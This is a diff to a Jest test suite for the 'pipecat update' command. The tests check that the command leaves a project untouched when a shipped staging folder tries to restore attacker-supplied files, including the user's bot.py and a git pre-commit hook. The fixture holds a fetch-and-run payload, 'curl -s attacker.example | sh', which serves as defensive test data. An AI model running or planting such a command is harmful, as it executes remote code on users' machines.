@@ -17,7 +17,7 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { spawnSync } from 'node:child_process';
-import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { hostname } from 'node:os';
 import { join } from 'node:path';
 import { WEB_ARGS, makeTempDir, removeDir, runCli } from '../helpers/cli.js';
@@ -114,10 +114,13 @@ function state(root: string): Record<string, string> {
         moved: [{ path: join(victim, 'doomed'), sha256: emptyDigest }],
         replaced: [{ path: join(victim, 'vault', 'planted.txt'), backup: join(dir, 'replaced', '0'), sha256: theirsDigest }],
       });
+      // It records its folder's identity (inode and birth time), which it can read: the only thing
+      // between it and root's files is that the folder is not root's.
       const script =
         'const fs=require("fs"),[dir,text,theirs]=process.argv.slice(1);' +
         'fs.mkdirSync(dir+"/replaced",{recursive:true});fs.writeFileSync(dir+"/replaced/0",theirs);' +
-        'fs.writeFileSync(dir+"/journal.json",text);';
+        'const st=fs.lstatSync(dir,{bigint:true});' +
+        'fs.writeFileSync(dir+"/journal.json",JSON.stringify({...JSON.parse(text),identity:st.ino+":"+st.birthtimeNs}));';
       const r = spawnSync(
         'setpriv',
         [`--reuid=${OTHER}`, `--regid=${OTHER}`, '--clear-groups', process.execPath, '-e', script, dir, text, theirs],
@@ -152,64 +155,86 @@ function state(root: string): Record<string, string> {
   });
 });
 
-describe("a staging folder shipped inside a project, naming the user's edited bot.py", () => {
+describe('a staging folder shipped inside a project', () => {
   let pristine: string;
   beforeAll(() => {
     expect(runCli(['init', '-n', 'bot', ...WEB_ARGS, '-o', join(tmp, 'pristine')]).code).toBe(0);
     pristine = join(tmp, 'pristine', 'bot');
     const bot = join(pristine, 'server', 'bot.py');
     writeFileSync(bot, `${readFileSync(bot, 'utf8')}\n# my own edit: keep this\n`);
+    mkdirSync(join(pristine, '.git', 'hooks'), { recursive: true });
   });
 
-  /** The attacker's bot.py, shipped as the "moved-aside original" a recovery would put back. */
-  const THEIRS = 'import os\nos.system("curl attacker.example | sh")\n';
+  /** The attacker's file, shipped as the "moved-aside original" a recovery would put back. */
+  const THEIRS = '#!/bin/sh\ncurl -s attacker.example | sh\n';
 
-  const variants: [string, (bot: string, backup: string) => { moved: unknown[]; replaced: unknown[] }][] = [
+  /** What each journal says that run did, given the project and its moved-aside copy. */
+  type Entries = (root: string, backup: string) => { moved: unknown[]; replaced: unknown[] };
+  const bot = (root: string): string => join(root, 'server', 'bot.py');
+  const variants: [string, Entries][] = [
     [
-      'a wrong digest',
-      (bot, backup) => ({
-        moved: [{ path: bot, sha256: 'ab'.repeat(32) }],
-        replaced: [{ path: bot, backup, sha256: contentHashOf(THEIRS) }],
+      "the user's edited bot.py with a wrong digest",
+      (root, backup) => ({
+        moved: [{ path: bot(root), sha256: 'ab'.repeat(32) }],
+        replaced: [{ path: bot(root), backup, sha256: contentHashOf(THEIRS) }],
       }),
     ],
     [
-      'no digest',
-      (bot, backup) => ({
-        moved: [{ path: bot }],
-        replaced: [{ path: bot, backup }],
-      }),
+      "the user's edited bot.py with no digest",
+      (root, backup) => ({ moved: [{ path: bot(root) }], replaced: [{ path: bot(root), backup }] }),
     ],
     [
-      'the format without digests',
-      (bot, backup) => ({
-        moved: [bot],
-        replaced: [{ path: bot, backup }],
+      "the user's edited bot.py in the format without digests",
+      (root, backup) => ({ moved: [bot(root)], replaced: [{ path: bot(root), backup }] }),
+    ],
+    [
+      'a git hook to put back, with correct digests',
+      (root, backup) => ({
+        replaced: [{ path: join(root, '.git', 'hooks', 'pre-commit'), backup, sha256: contentHashOf(THEIRS) }],
+        moved: [],
       }),
     ],
   ];
+  // Shipped: the attacker made the folder (recording its identity) and the user got a copy (a
+  // clone). In place: the folder where the journal says, as if the attacker knew its identity; the
+  // digests must stop it then (not for the hook: only the identity can tell that journal is not the run's).
+  const cases = variants.flatMap(([name, entries]) =>
+    (['shipped', 'in place'] as const)
+      .filter((how) => how === 'shipped' || !name.includes('hook'))
+      .map((how) => [name, how, entries] as const),
+  );
 
-  test.each(variants)('with %s: `pipecat update --dry-run` and `pipecat update` leave bot.py byte-identical', (name, entries) => {
-    const root = join(tmp, `shipped-${name.replace(/\W+/g, '-')}`);
-    cpSync(pristine, root, { recursive: true });
-    const bot = join(root, 'server', 'bot.py');
-    const mine = readFileSync(bot);
-    const dir = join(root, `${STAGING_PREFIX}${deadPid()}-0badc0de`);
-    mkdirSync(join(dir, 'replaced'), { recursive: true });
-    writeFileSync(join(dir, 'replaced', '0'), THEIRS);
-    writeFileSync(join(dir, 'journal.json'), journal({ target: root, ...entries(bot, join(dir, 'replaced', '0')) }));
-    const before = state(root);
-    const dry = runCli(['update', '--dry-run'], { cwd: root });
-    expect({ code: dry.code, warning: dry.stderr.split('\n')[0] }).toEqual({
-      code: 0,
-      warning: expect.stringMatching(new RegExp(`^warning: left ${dir} alone: .*`)),
-    });
-    expect(state(root)).toEqual(before);
-    const real = runCli(['update'], { cwd: root });
-    expect(real.code).toBe(0);
-    expect(readFileSync(bot).equals(mine)).toBe(true);
-    expect(readFileSync(join(dir, 'replaced', '0'), 'utf8')).toBe(THEIRS);
-    expect(state(root)).toEqual(before);
-  });
+  test.each(cases)(
+    'naming %s (%s): `pipecat update --dry-run` and `pipecat update` leave the project byte-identical',
+    (name, how, entries) => {
+      const slug = `${name}-${how}`.replace(/\W+/g, '-');
+      const made = join(tmp, `made-${slug}`);
+      const root = join(tmp, `project-${slug}`);
+      cpSync(pristine, how === 'shipped' ? made : root, { recursive: true });
+      const at = how === 'shipped' ? made : root;
+      const name_ = `${STAGING_PREFIX}${deadPid()}-0badc0de`;
+      const dir = join(at, name_);
+      mkdirSync(join(dir, 'replaced'), { recursive: true });
+      writeFileSync(join(dir, 'replaced', '0'), THEIRS, { mode: 0o755 });
+      const st = lstatSync(dir, { bigint: true });
+      const text = journal({ target: root, ...entries(root, join(root, name_, 'replaced', '0')) });
+      writeFileSync(join(dir, 'journal.json'), JSON.stringify({ ...JSON.parse(text), identity: `${st.ino}:${st.birthtimeNs}` }));
+      if (how === 'shipped') cpSync(made, root, { recursive: true });
+      const mine = readFileSync(bot(root));
+      const before = state(root);
+      const dry = runCli(['update', '--dry-run'], { cwd: root });
+      expect({ code: dry.code, warning: dry.stderr.split('\n')[0] }).toEqual({
+        code: 0,
+        warning: expect.stringMatching(new RegExp(`^warning: left ${join(root, name_)} alone: .*`)),
+      });
+      expect(state(root)).toEqual(before);
+      const real = runCli(['update'], { cwd: root });
+      expect(real.code).toBe(0);
+      expect(readFileSync(bot(root)).equals(mine)).toBe(true);
+      expect(existsSync(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      expect(state(root)).toEqual(before);
+    },
+  );
 });
 
 /** The digest {@link contentHash} records for a file holding `text`. */
